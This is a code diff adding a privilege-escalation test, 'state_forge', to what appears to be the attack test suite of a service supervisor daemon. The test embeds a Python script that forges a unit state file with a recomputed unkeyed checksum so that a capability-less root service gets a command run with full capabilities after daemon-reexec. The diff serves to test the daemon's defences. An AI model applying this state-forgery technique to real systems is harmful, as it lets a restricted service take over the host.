@@ -960,7 +960,79 @@ def userns_owner(ctx):
     d.stop()
 
 
-ATTACKS = [userns_owner, guard_transient, identity_forms, guard_forms, userns_foreign_map_nobody, cgroup_move_notify, cgroup_move_notify_protected, cgroup_move_notify_gated, userns_foreign_map, userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
+# ---------------------------------------------------------------------------------------
+STATE_FORGE_PY = r"""
+# An ungated root service without capabilities (ProtectSupervisor= is on by default only with
+# the gate) writes a state file for a transient unit that never existed: its assignments come
+# from the state file, and "auto-restart" with a past timer makes the next daemon start it.
+# The checksum is FNV-1a over the text before "end ", no key; nothing checks the owner.
+import os, sys
+runtime, proof = sys.argv[1], sys.argv[2]
+def esc(v):
+    return ''.join('\\x%02x' % ord(c) if ord(c) < 0x20 or ord(c) == 0x7f else c for c in v)
+cmd = '/bin/sh -c "grep -E CapEff /proc/self/status > %s/pwned; grep -E ^Uid /proc/self/status >> %s/pwned"' % (proof, proof)
+entries = [('unit', 'pwned.service'), ('state', 'auto-restart'), ('result', 'exit-code'),
+           ('reload_result', 'success'), ('invocation', '0123456789abcdef0123456789abcdef'),
+           ('n_restarts', '0'), ('start_limit_begin', '0'), ('start_limit_count', '0'), ('last_start', '0'),
+           ('start_seq', '1'), ('forbid_restart', 'no'), ('restart_requested', 'no'), ('notify_ready', 'no'),
+           ('notify_stopping', 'no'), ('reload_pending_ready', 'no'), ('main_execed', 'no'),
+           ('ts_state_change', '0'), ('ts_active_enter', '0'), ('ts_active_exit', '0'), ('ts_inactive_enter', '0'),
+           ('ts_main_start', '0'), ('ts_main_exit', '0'), ('main_pid', '0'), ('main_pid_known', 'no'),
+           ('main_code', '1'), ('main_status', '1'), ('control_command', '0'), ('command_index', '0'),
+           ('timer', '1'), ('watchdog', 'no'),
+           ('transient', esc('Service\tRestart\t1\t-p\tno')),
+           ('transient', esc('Service\tExecStart\t1\t(command line)\t' + cmd))]
+text = 'syscage-state 1\n' + ''.join('%s=%s\n' % kv for kv in entries)
+h = 0xcbf29ce484222325
+for b in text.encode():
+    h = ((h ^ b) * 0x100000001b3) & 0xffffffffffffffff
+text += 'end %016x\n' % h
+try:
+    with open(os.path.join(runtime, 'state', '.pwned.tmp'), 'w') as f:
+        f.write(text)
+    os.rename(os.path.join(runtime, 'state', '.pwned.tmp'), os.path.join(runtime, 'state', 'pwned.service.state'))
+    print('forger: state file written', flush=True)
+except OSError as e:
+    print('forger: failed', e, flush=True)
+with open('/proc/self/status') as f:
+    print('forger:', ' '.join(l.strip() for l in f if l.startswith('CapEff')), flush=True)
+"""
+
+
+def state_forge(ctx):
+    """A capless, ungated root service forges RUNTIME_DIR/state/pwned.service.state: a transient
+    unit with its own ExecStart= in "auto-restart". At the next daemon-reexec (an operator's,
+    after an upgrade) or crash, the daemon takes the transient unit "over" and starts it: a
+    root process with every capability, from a service that had none."""
+    path = script(ctx, 'forge.py', STATE_FORGE_PY)
+    proof = os.path.dirname(path)
+    units = {'forger.service': unit('CapabilityBoundingSet=\nType=oneshot\nExecStart=/usr/bin/python3 %s @RUNTIME@ %s' % (path, proof))}
+    d = ctx.daemon(units, [])
+    d.wait('forger.service', lambda s: True, 'the daemon', timeout=15)
+    f = os.path.join(d.units_dir, d._n('forger.service'))
+    text = open(f).read().replace('@RUNTIME@', d.runtime_dir)
+    open(f, 'w').write(text)
+    st.ctl(ctx, d, 'daemon-reload')
+    st.ctl(ctx, d, 'start', 'forger.service')
+    end = time.monotonic() + 10
+    while time.monotonic() < end and 'forger: CapEff' not in d.unit_log('forger.service'):
+        time.sleep(0.05)
+    verbose(d, 'forger.service')
+    st.ctl(ctx, d, 'daemon-reexec')
+    end = time.monotonic() + 10
+    pwned = os.path.join(proof, 'pwned')
+    while time.monotonic() < end and not (os.path.exists(pwned) and 'Uid' in open(pwned).read()):
+        time.sleep(0.1)
+    got = open(pwned).read().split('\n') if os.path.exists(pwned) else []
+    verbose(d, 'pwned.service')
+    verdict('state files: a capless ungated root service forges a transient unit that the next daemon starts',
+            not got, 'the forged unit ran after daemon-reexec: %s; forger: %s' % (
+                ' | '.join(l.strip() for l in got if l.strip()),
+                ' | '.join(l.split(': ', 1)[-1] for l in d.unit_log('forger.service').split('\n') if 'forger:' in l)))
+    d.stop()
+
+
+ATTACKS = [state_forge, userns_owner, guard_transient, identity_forms, guard_forms, userns_foreign_map_nobody, cgroup_move_notify, cgroup_move_notify_protected, cgroup_move_notify_gated, userns_foreign_map, userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
 
 
 def main():
